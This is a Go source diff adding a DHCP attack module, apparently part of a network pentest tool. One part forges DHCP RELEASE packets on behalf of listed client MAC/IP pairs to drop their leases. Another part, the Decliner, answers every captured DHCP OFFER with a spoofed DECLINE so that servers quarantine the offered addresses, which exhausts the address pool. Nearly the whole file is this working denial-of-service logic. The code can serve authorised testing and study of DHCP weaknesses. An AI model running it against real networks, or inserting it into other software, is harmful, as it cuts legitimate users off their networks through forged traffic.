@@ -0,0 +1,148 @@
+package dhcp
+
+import (
+	"fmt"
+	"net"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+)
+
+// Client is a known client MAC/IP binding
+type Client struct {
+	MAC net.HardwareAddr
+	IP  net.IP
+}
+
+// ParseClients parses a comma separated list of "mac@ip" bindings
+func ParseClients(s string) ([]Client, error) {
+	var clients []Client
+	for _, part := range strings.Split(s, ",") {
+		part = strings.TrimSpace(part)
+		if part == "" {
+			continue
+		}
+		mac, ip, ok := strings.Cut(part, "@")
+		hw, err := net.ParseMAC(strings.TrimSpace(mac))
+		addr := net.ParseIP(strings.TrimSpace(ip)).To4()
+		if !ok || err != nil || addr == nil {
+			return nil, fmt.Errorf("invalid client %q, use mac@ip", part)
+		}
+		clients = append(clients, Client{MAC: hw, IP: addr})
+	}
+	return clients, nil
+}
+
+// CraftReleases creates a RELEASE from every client to the server at serverIP.
+// They are broadcast at layer 2 when the server MAC is not known.
+func CraftReleases(clients []Client, serverIP net.IP, serverMAC net.HardwareAddr) ([][]byte, error) {
+	if serverMAC == nil {
+		serverMAC = layers.EthernetBroadcast
+	}
+	var out [][]byte
+	for _, c := range clients {
+		packet, err := CraftDHCPRelease(c.MAC, c.IP, serverIP, serverMAC)
+		if err != nil {
+			return nil, err
+		}
+		out = append(out, packet)
+	}
+	return out, nil
+}
+
+// Declined is an offered address we declined
+type Declined struct {
+	IP     net.IP
+	Client net.HardwareAddr
+	Server net.IP
+	// Xid is the transaction of the last OFFER declined for IP
+	Xid uint32
+	At  time.Time
+}
+
+// Decliner answers every OFFER it sees with a DECLINE, so servers quarantine the offered addresses.
+// A copy of an OFFER already declined is skipped, but the same address offered again in a new
+// transaction is declined again. It is safe for concurrent use.
+type Decliner struct {
+	stopChan chan struct{}
+
+	mu       sync.Mutex
+	offers   uint64
+	declined map[string]Declined
+}
+
+// NewDecliner creates a decliner stopped by stopChan
+func NewDecliner(stopChan chan struct{}) *Decliner {
+	return &Decliner{stopChan: stopChan, declined: make(map[string]Declined)}
+}
+
+// Handle processes a captured packet and returns the DECLINE for an OFFER
+func (d *Decliner) Handle(packet gopacket.Packet) [][]byte {
+	offer, ok := packet.Layer(layers.LayerTypeDHCPv4).(*layers.DHCPv4)
+	if !ok || offer.Operation != layers.DHCPOpReply || messageType(offer) != layers.DHCPMsgTypeOffer {
+		return nil
+	}
+	server := net.IP(option(offer, layers.DHCPOptServerID))
+	if len(server) != 4 {
+		return nil
+	}
+	now := packet.Metadata().Timestamp
+	if now.IsZero() {
+		now = time.Now()
+	}
+
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	d.offers++
+	ip := append(net.IP(nil), offer.YourClientIP.To4()...)
+	if prev, done := d.declined[ip.String()]; done && prev.Xid == offer.Xid {
+		return nil
+	}
+
+	decline, err := CraftDHCPDecline(offer.ClientHWAddr, offer.Xid, ip, server)
+	if err != nil {
+		return nil
+	}
+	d.declined[ip.String()] = Declined{
+		IP:     ip,
+		Client: append(net.HardwareAddr(nil), offer.ClientHWAddr...),
+		Server: append(net.IP(nil), server...),
+		Xid:    offer.Xid,
+		At:     now,
+	}
+	return [][]byte{decline}
+}
+
+// Due is part of the responder interface, a decliner has no delayed packets
+func (d *Decliner) Due(now time.Time) [][]byte {
+	return nil
+}
+
+// Offers returns the number of OFFERs seen
+func (d *Decliner) Offers() uint64 {
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	return d.offers
+}
+
+// Declined returns the declined addresses, sorted by IP
+func (d *Decliner) Declined() []Declined {
+	d.mu.Lock()
+	out := make([]Declined, 0, len(d.declined))
+	for _, decl := range d.declined {
+		out = append(out, decl)
+	}
+	d.mu.Unlock()
+
+	sort.Slice(out, func(i, j int) bool { return ipToUint(out[i].IP) < ipToUint(out[j].IP) })
+	return out
+}
+
+// StopChan returns the channel that stops the decliner
+func (d *Decliner) StopChan() chan struct{} {
+	return d.stopChan
+}